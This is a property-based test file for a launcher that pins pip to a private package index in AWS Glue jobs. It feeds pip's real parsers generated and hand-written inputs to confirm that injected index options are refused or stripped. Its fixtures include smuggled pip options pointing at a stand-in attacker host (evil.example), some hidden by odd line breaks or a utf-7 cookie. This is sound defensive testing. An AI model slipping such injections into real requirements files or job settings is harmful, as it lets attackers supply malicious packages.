import { spawnSync } from 'node:child_process';
import { devNull } from 'node:os';
import fc from 'fast-check';
import { PIP_LONG_OPTIONS, PIP_SHORT_WITH_VALUE, type PipIndexOption } from '../../src/pip/options';
import {
  draftPlacement,
  INSTALLER_OPTION,
  indexArguments,
  MODULES_OPTION,
  type PipJob,
  placeIndex,
} from '../../src/pip/placement';
import { readRequirementsFile, writeRequirementsFile } from '../../src/pip/requirements';

// The boundary held to pip's own reading (docs/adr/0013-strict-grammars-at-the-boundary.md): the machine's pip
// parses everything the launcher lets through (the installer option with `pip install`'s parser, a requirements
// file with pip's own file parser), and must find the launcher's index and nothing from elsewhere. Every input is
// either refused by the launcher or read by pip as the launcher meant it; the corpus is built from the classes of
// input that went through v2 (odd line separators, quotes, escapes, continuations, URL forms, abbreviations).
jest.setTimeout(120_000);

const OURS = 'https://aws:token@repo.example/pypi/r/simple/';
const EVIL = 'http://evil.example/simple/';
const PIP_DEFAULT_INDEX = 'https://pypi.org/simple';
const MODULES = ['acme-pipelines==1.4.0'];

const python = (script: string, input = '') => {
  const run = spawnSync('python3', ['-c', script], {
    input,
    encoding: 'utf8',
    env: { PATH: process.env.PATH, PIP_CONFIG_FILE: devNull, PYTHONDONTWRITEBYTECODE: '1' },
    maxBuffer: 64 * 1024 * 1024,
  });
  if (run.status !== 0) throw new Error(`python3 failed: ${run.stderr}`);
  return JSON.parse(run.stdout);
};

/** What pip does with it that could bring code from elsewhere: must stay at pip's defaults. */
const ELSEWHERE = `['find_links', 'requirements', 'constraints', 'editables', 'trusted_hosts', 'no_index', 'target_dir',
  'proxy', 'cert', 'client_cert', 'config_settings', 'root_path', 'prefix_path', 'src_dir', 'global_options']`;

// `pip install`'s parser on each case's words (a fresh parser each: optparse shares append defaults), and whether
// a split that honours quotes (shlex) reads the same words as a split at spaces.
const COMMAND_READER = `
import contextlib, io, json, shlex, sys
from pip._internal.commands import create_command
out = []
for words in json.load(sys.stdin):
    cmd = create_command('install')
    try:
        with contextlib.redirect_stderr(io.StringIO()), contextlib.redirect_stdout(io.StringIO()):
            options, args = cmd.parse_args(words)
    except (SystemExit, Exception) as refusal:
        out.append({'error': repr(refusal)})
        continue
    try:
        same = shlex.split(' '.join(words)) == words
    except ValueError:
        same = False
    defaults = create_command('install').parser.get_default_values()
    elsewhere = {k: getattr(options, k, None) for k in ${ELSEWHERE} if getattr(options, k, None) != getattr(defaults, k, None)}
    out.append({'index_url': options.index_url, 'extra_index_urls': options.extra_index_urls, 'args': args,
                'elsewhere': elsewhere, 'same_under_shlex': same})
json.dump(out, sys.stdout, default=repr)
`;

interface CommandReading {
  readonly error?: string;
  readonly index_url?: string;
  readonly extra_index_urls?: string[];
  readonly args?: string[];
  readonly elsewhere?: Record<string, unknown>;
  readonly same_under_shlex?: boolean;
}

const spark = (defaults: Record<string, string>): PipJob => ({
  name: 'etl',
  command: 'glueetl',
  glueVersion: '5.0',
  pythonVersion: undefined,
  defaultArguments: defaults,
  nonOverridableArguments: {},
});

/** What the launcher hands the run in arguments delivery, or undefined when it refuses. */
const launched = (job: PipJob, option: PipIndexOption) => {
  try {
    const placement = placeIndex(draftPlacement(job, undefined, { mode: 'arguments' }), undefined);
    if (placement.via === 'requirements-file') throw new Error('not in arguments delivery');
    return indexArguments(placement, option, OURS);
  } catch (error) {
    if ((error as Error).name === 'InstallerOptionConflict' || (error as Error).name === 'UnsupportedJobType') {
      return undefined;
    }
    throw error;
  }
};

/** Only the launcher's index, under either PIP_INDEX_OPTION. */
const onlyOurs = (reading: CommandReading, option: PipIndexOption) =>
  option === 'index-url'
    ? reading.index_url === OURS && reading.extra_index_urls?.length === 0
    : reading.index_url === PIP_DEFAULT_INDEX && [...new Set(reading.extra_index_urls)].join() === OURS;

// Pieces the corpus is built from: the spellings that went through v2, and the plain ones that must go through.
const SEPARATORS = [
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\v',
  '\f',
  '\x1c',
  '\x1d',
  '\x1e',
  '\x85',
  '\u2028',
  '\u2029',
];
const INDEX_WORDS = [
  '--index-url',
  '--index',
  '--ind',
  '--extra-index-url',
  '--extra',
  '--pypi-url',
  '-i',
  '-Ui',
  '-qi',
];
const OTHER_OPTIONS = [
  ...['--upgrade', '-U', '--pre', '--prefer-binary', '--no-cache-dir', '-q', '--no-deps', '--require-hashes', '-I'],
  ...['--only-binary=:all:', '--only-binary :none:', '--no-binary=:all:', '--timeout 30', '--retries 2'],
  ...['--no-index', '--no-ind', '-f', '--find-links', '-r', '-c', '-e', '--trusted-host', '--upgr', '-Uq', '--cert'],
];
const VALUES = [
  EVIL,
  `'${EVIL}'`,
  `"${EVIL} --pre"`,
  `${EVIL}\\`,
  'https://evil.example/reqs.txt',
  'reqs.txt',
  ':all:',
];

describe('the installer option: whatever the launcher lets through, pip reads the same way, with its index alone', () => {
  const word = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...OTHER_OPTIONS) },
    { weight: 2, arbitrary: fc.constantFrom(...INDEX_WORDS) },
    { weight: 2, arbitrary: fc.constantFrom(...VALUES) },
    {
      weight: 1,
      arbitrary: fc.tuple(fc.constantFrom(...INDEX_WORDS), fc.constantFrom(...VALUES)).map(([o, v]) => `${o}=${v}`),
    },
  );
  const line = fc
    .tuple(
      fc.array(word, { minLength: 1, maxLength: 5 }),
      fc.array(fc.constantFrom(...SEPARATORS), { minLength: 5, maxLength: 5 }),
    )
    .map(([words, separators]) => words.map((w, n) => (n === 0 ? w : `${separators[n]}${w}`)).join(''));
  const TABLE = [
    `-Ui ${EVIL}`,
    `-qi${EVIL}`,
    `--ind ${EVIL} --upgrade`,
    `--extra-index-url=${EVIL} --extra-index-url ${EVIL}`,
    `--pypi=${EVIL}`,
    `--upgrade --only-binary=:all: --index-url ${EVIL} --no-cache-dir`,
    `--upgrade\r--index-url ${EVIL}`,
    `"--index-url ${EVIL}"`,
    `-f ${EVIL}`,
    '-r https://evil.example/reqs.txt',
    `--trusted-host evil.example -i${EVIL}`,
  ];

  it.each<PipIndexOption>(['index-url', 'extra-index-url'])(
    'the table and 1,500 generated lines, under %s',
    (option) => {
      const cases = [...TABLE, ...fc.sample(line, { numRuns: 1500, seed: 18 })];
      const emitted = cases.map((value) =>
        launched(spark({ [INSTALLER_OPTION]: value, [MODULES_OPTION]: MODULES[0] as string }), option),
      );
      const accepted = emitted.flatMap((args, n) =>
        args === undefined ? [] : [[cases[n] as string, args[INSTALLER_OPTION] as string] as const],
      );
      const readings = python(
        COMMAND_READER,
        JSON.stringify(accepted.map(([, value]) => [...value.split(' '), ...MODULES])),
      ) as CommandReading[];
      const wrong = accepted.flatMap(([original, value], n) => {
        const reading = readings[n] as CommandReading;
        const ok =
          reading.error === undefined &&
          onlyOurs(reading, option) &&
          reading.same_under_shlex &&
          Object.keys(reading.elsewhere ?? {}).length === 0 &&
          JSON.stringify(reading.args) === JSON.stringify(MODULES);
        return ok ? [] : [{ original, value, reading }];
      });
      expect(wrong.slice(0, 3)).toEqual([]);
      // Not vacuous: plain lines went through, and many carried an index that was removed.
      expect(accepted.length).toBeGreaterThan(100);
      expect(accepted.filter(([original]) => INDEX_WORDS.some((w) => original.includes(w))).length).toBeGreaterThan(30);
      expect(accepted.length).toBeLessThan(cases.length / 2);
    },
  );
});

// pip's requirements-file parser on each file's bytes (its decoding, line splitting, continuations, comments,
// variables and option parsing), without following -r or -c: what each line means to pip, each requirement as
// packaging reads it, and whether pip takes it for a file or a URL rather than a project on an index.
const FILE_READER = `
import base64, json, os, sys, tempfile
from pip._internal.network.session import PipSession
from pip._internal.req.req_file import RequirementsFileParser, get_line_parser
from pip._internal.req.constructors import parse_req_from_line
from pip._vendor.packaging.requirements import Requirement
parser = RequirementsFileParser(PipSession(), get_line_parser(None))
out = []
for data in json.load(sys.stdin):
    fd, path = tempfile.mkstemp(suffix='.txt')
    os.write(fd, base64.b64decode(data)); os.close(fd)
    try:
        reading = {'index': [], 'elsewhere': [], 'options': [], 'requirements': []}
        for line in parser._parse_file(path, False):
            o = line.opts
            reading['index'] += ([o.index_url] if o.index_url else []) + (o.extra_index_urls or [])
            reading['elsewhere'] += [k for k in ${ELSEWHERE} if getattr(o, k, None)]
            reading['options'] += [k for k in ['pre', 'prefer_binary', 'require_hashes'] if getattr(o, k, None)]
            if getattr(o, 'format_control', None): reading['options'].append('format_control')
            if line.is_requirement:
                parts = parse_req_from_line(line.requirement, None)
                if line.is_editable or parts.link is not None or parts.requirement is None or parts.requirement.url:
                    reading['elsewhere'].append('link:' + line.requirement)
                    continue
                r = parts.requirement
                reading['requirements'].append([r.name, sorted(r.extras), str(r.specifier),
                    str(parts.markers) if parts.markers else None, list(getattr(o, 'hashes', None) or [])])
    except BaseException as error:
        reading = {'error': repr(error)}
    finally:
        os.unlink(path)
    out.append(reading)
json.dump(out, sys.stdout, default=repr)
`;

interface FileReading {
  readonly error?: string;
  readonly index?: string[];
  readonly elsewhere?: string[];
  readonly options?: string[];
  readonly requirements?: Array<[string, string[], string, string | null, string[]]>;
}

const readByPip = (files: readonly Uint8Array[]): FileReading[] =>
  python(FILE_READER, JSON.stringify(files.map((bytes) => Buffer.from(bytes).toString('base64')))) as FileReading[];

describe('a requirements file: read by the launcher, written by it, read by pip as the input meant', () => {
  const H1 = `sha256:${'1'.repeat(64)}`;
  const H2 = `sha512:${'2'.repeat(128)}`;
  const REQUIREMENTS = [
    'acme-pipelines==1.4.0',
    'pandas >= 2.0, < 3',
    'requests[socks]~=2.31',
    "numpy; python_version >= '3.9'",
    `acme==1.0 --hash=${H1}`,
    `acme==1.0 \\\n    --hash=${H1} \\\n    --hash=${H2}`,
    'acme @ https://evil.example/acme-1.0-py3-none-any.whl',
    'https://evil.example/acme-1.0-py3-none-any.whl',
    'git+https://evil.example/acme.git#egg=acme',
    './local-dir',
    'acme-1.0-py3-none-any.whl',
    'acme; os_name == "po six"',
    'acme ${PIP_INDEX_URL}',
    'acmé',
  ];
  const OPTION_LINES = [
    ...['--pre', '--prefer-binary', '--only-binary :all:', '--require-hashes', `--index-url ${EVIL}`, `-i ${EVIL}`],
    ...[`--extra-index-url=${EVIL}`, `--ind ${EVIL}`, `-f ${EVIL}`, '-r https://evil.example/more.txt'],
    ...['-c https://evil.example/c.txt', '--no-index', `--trusted-host evil.example`, '-e git+https://evil.example/x'],
    ...[`--index-url "${EVIL}"`, '--upgrade', `--hash=${H1}`],
  ];
  // Comments of any text: what pip strips, the launcher strips, whatever it holds.
  const COMMENTS = [
    '',
    ' # a comment',
    '\t# pinned — see ticket 42',
    ' # façade 数値計算 \\',
    ` # --index-url ${EVIL} \${PIP_INDEX_URL}`,
    ' #',
    ' \\',
  ];
  const fileLine = fc
    .tuple(fc.constantFrom(...REQUIREMENTS, ...OPTION_LINES), fc.constantFrom(...COMMENTS))
    .map(([text, comment]) => `${text}${comment}`);
  const BREAKS = ['\n', '\n', '\n', '\r\n', '\r', '\v', '\f', '\x1c', '\x85', '\u2028', '\u2029'];
  const HEADS = ['', '', '', '\ufeff', '# -*- coding: utf-8 -*-\n', '# -*- coding: utf-7 -*-\n', '# coding: latin-1\n'];
  const file = fc
    .tuple(
      fc.constantFrom(...HEADS),
      fc.array(fileLine, { minLength: 1, maxLength: 6 }),
      fc.array(fc.constantFrom(...BREAKS), { minLength: 6, maxLength: 6 }),
    )
    .map(
      ([head, lines, breaks]) =>
        new Uint8Array(Buffer.from(`${head}${lines.map((l, n) => `${l}${breaks[n]}`).join('')}`, 'utf8')),
    );

  const TABLE = [
    // pip-compile --generate-hashes, as teams commit it.
    `#\n# This file is autogenerated by pip-compile\n#\nacme-pipelines==1.4.0 \\\n    --hash=${H1} \\\n    --hash=${H2}\n    # via -r requirements.in\n`,
    `acme\r--index-url ${EVIL}\n`,
    `acme\v--index-url ${EVIL}\n`,
    `acme\u2028--index-url ${EVIL}\n`,
    `acme \\\n--index-url ${EVIL}\n`,
    `--index-url ${EVIL} \\\nacme\n`,
    `acme # x \\\n--index-url ${EVIL}\n`,
    `# -*- coding: utf-7 -*-\nacme-pipelines # +AAo---index-url ${EVIL}\n`,
    `-r https://evil.example/more.txt\n`,
    `--find-links ${EVIL}\nacme\n`,
    '\ufeffacme==1.4.0\r\n',
  ].map((text) => new Uint8Array(Buffer.from(text, 'utf8')));

  it('the table and 1,500 generated files: what the launcher writes, pip reads as the input meant, from its index alone', () => {
    const cases = [...TABLE, ...fc.sample(file, { numRuns: 1500, seed: 18 })];
    const written = cases.map((bytes) => {
      const source = readRequirementsFile(bytes);
      return 'refused' in source ? undefined : writeRequirementsFile(source, 'index-url', OURS);
    });
    const accepted = cases.flatMap((_bytes, n) => (written[n] === undefined ? [] : [n]));
    const inputs = readByPip(cases);
    const outputs = readByPip(accepted.map((n) => new Uint8Array(Buffer.from(written[n] as string, 'ascii'))));
    const wrong = accepted.flatMap((n, at) => {
      const [input, output] = [inputs[n] as FileReading, outputs[at] as FileReading];
      const ok =
        output.error === undefined &&
        output.elsewhere?.length === 0 &&
        output.index?.join() === OURS &&
        input.error === undefined &&
        input.elsewhere?.length === 0 &&
        JSON.stringify(output.requirements) === JSON.stringify(input.requirements) &&
        JSON.stringify([...new Set(output.options)].sort()) === JSON.stringify([...new Set(input.options)].sort()) &&
        /^[\x20-\x7e\n]*$/.test(written[n] as string);
      return ok
        ? []
        : [
            {
              input: Buffer.from(cases[n] as Uint8Array).toString('utf8'),
              written: written[n],
              pip: { input, output },
            },
          ];
    });
    expect(wrong.slice(0, 3)).toEqual([]);
    // What teams write goes through: pip-compile's hashes, comments of any text, every line break pip knows.
    expect(written[0]).toBe(`--index-url ${OURS}\nacme-pipelines==1.4.0 --hash=${H1} --hash=${H2}\n`);
    expect(written.slice(1, 11).map((text) => text !== undefined)).toEqual([
      ...[true, true, true, true], // index lines after \r, \v, U+2028 and after a requirement's \, dropped
      false, // an index line continued into a requirement pip ignores: refused
      true, // a comment's \ continues the comment
      ...[false, false, false], // a utf-7 cookie, -r, --find-links
      true, // a BOM and CRLF
    ]);
    expect(accepted.length).toBeGreaterThan(150);
    // And what pip reads plainly (no error, nothing from elsewhere), the launcher accepts: no refusal of what teams
    // write. By design it refuses a cookie (pip would decode by it), a quote among options and a non-ASCII or
    // spaced marker value (its grammar is narrower than packaging's), and words pip silently ignores (a --hash with
    // no requirement, a word among a line's options): the writer meant something pip would not do.
    const BY_DESIGN =
      /coding|quote|outside a comment|environment marker|\$|which pip ignores|--hash with no requirement/;
    const plain = cases.flatMap((bytes, n) => {
      const input = inputs[n] as FileReading;
      const got = written[n] === undefined ? readRequirementsFile(bytes) : undefined;
      const readsPlainly = input.error === undefined && input.elsewhere?.length === 0;
      return readsPlainly && got && 'refused' in got && !BY_DESIGN.test(got.refused)
        ? [{ text: Buffer.from(bytes).toString('utf8'), refused: got }]
        : [];
    });
    expect(plain.slice(0, 3)).toEqual([]);
  });
});

describe('modules values: every item a plain requirement, the index after each', () => {
  const ITEMS = [
    'acme-pipelines==1.4.0',
    'pandas>=2',
    `acme -i ${EVIL}`,
    `--index-url=${EVIL}`,
    'acme @ https://evil.example/a.whl',
    '-r https://evil.example/r.txt',
    '--pre',
    `"acme -i ${EVIL}"`,
    's3://team-wheels/acme-1.0-py3-none-any.whl',
  ];
  const value = fc
    .tuple(
      fc.array(fc.constantFrom(...ITEMS), { minLength: 1, maxLength: 4 }),
      fc.constantFrom(',', ', ', ',\t', ',\n'),
    )
    .map(([items, comma]) => items.join(comma));

  it('Spark: an accepted value is only requirements (and S3 wheels) to pip; nothing it reads as an option', () => {
    const cases = fc.sample(value, { numRuns: 400, seed: 18 });
    const accepted = cases.filter((v) => launched(spark({ [MODULES_OPTION]: v }), 'index-url') !== undefined);
    // Glue's split is undocumented: read the value as one pip command split at commas and spaces.
    const readings = python(
      COMMAND_READER,
      JSON.stringify(accepted.map((v) => [`--index-url=${OURS}`, ...v.split(/[,\s]+/).filter(Boolean)])),
    ) as CommandReading[];
    const wrong = accepted.filter((v, n) => {
      const reading = readings[n] as CommandReading;
      return !(
        reading.error === undefined &&
        onlyOurs(reading, 'index-url') &&
        Object.keys(reading.elsewhere ?? {}).length === 0 &&
        reading.args?.length === v.split(',').length
      );
    });
    expect(wrong.slice(0, 3)).toEqual([]);
    expect(accepted.length).toBeGreaterThan(20);
  });

  it.each<PipIndexOption>(['index-url', 'extra-index-url'])(
    'Python shell, under %s: the launcher’s index alone whether Glue runs one pip for the value or one per item',
    (option) => {
      const cases = fc.sample(value, { numRuns: 300, seed: 18 });
      const job = (v: string): PipJob => ({
        ...spark({ [MODULES_OPTION]: v }),
        command: 'pythonshell',
        pythonVersion: '3.9',
      });
      const emitted = cases.flatMap((v) => {
        const args = launched(job(v), option);
        return args === undefined ? [] : [args[MODULES_OPTION] as string];
      });
      const whole = emitted.map((v) => v.split(/[,\s]+/).filter(Boolean));
      const perItem = emitted.flatMap((v) => v.split(',').map((item) => item.split(' ').filter(Boolean)));
      const readings = python(COMMAND_READER, JSON.stringify([...whole, ...perItem])) as CommandReading[];
      const wrong = readings.filter(
        (reading) =>
          !(
            reading.error === undefined &&
            onlyOurs(reading, option) &&
            Object.keys(reading.elsewhere ?? {}).length === 0
          ),
      );
      expect(wrong.slice(0, 3)).toEqual([]);
      expect(emitted.length).toBeGreaterThan(20);
    },
  );
});

describe('the launcher’s table of pip options', () => {
  const TABLE = `
import json
from pip._internal.commands import create_command
import pip
options = create_command('install').parser._get_all_options()
kind = lambda o: {'index_url': 'index', 'extra_index_urls': 'index', 'no_index': 'no-index'}.get(o.dest,
    'value' if o.takes_value() else 'flag')
json.dump({'version': pip.__version__,
           'long': sorted([name, kind(o)] for o in options for name in o._long_opts),
           'shortWithValue': sorted(s[1] for o in options for s in o._short_opts if o.takes_value())}, __import__('sys').stdout)
`;
  const machine = python(TABLE) as { version: string; long: Array<[string, string]>; shortWithValue: string[] };

  it('names exactly the index options the machine’s pip has, and its value-taking short letters', () => {
    const indexOptions = (entries: Iterable<[string, string]>) =>
      [...entries].filter(([, kind]) => kind === 'index' || kind === 'no-index').sort();
    expect(indexOptions(PIP_LONG_OPTIONS)).toEqual(indexOptions(machine.long));
    expect([...PIP_SHORT_WITH_VALUE].sort()).toEqual(machine.shortWithValue);
  });

  it('is pip 23.2’s, option for option (abbreviations resolve against the whole table)', () => {
    if (!machine.version.startsWith('23.2')) {
      console.warn(`SKIPPED: the full pip option table is pip 23.2's; this machine has pip ${machine.version}`);
      return;
    }
    expect([...PIP_LONG_OPTIONS].sort()).toEqual(machine.long);
  });
});
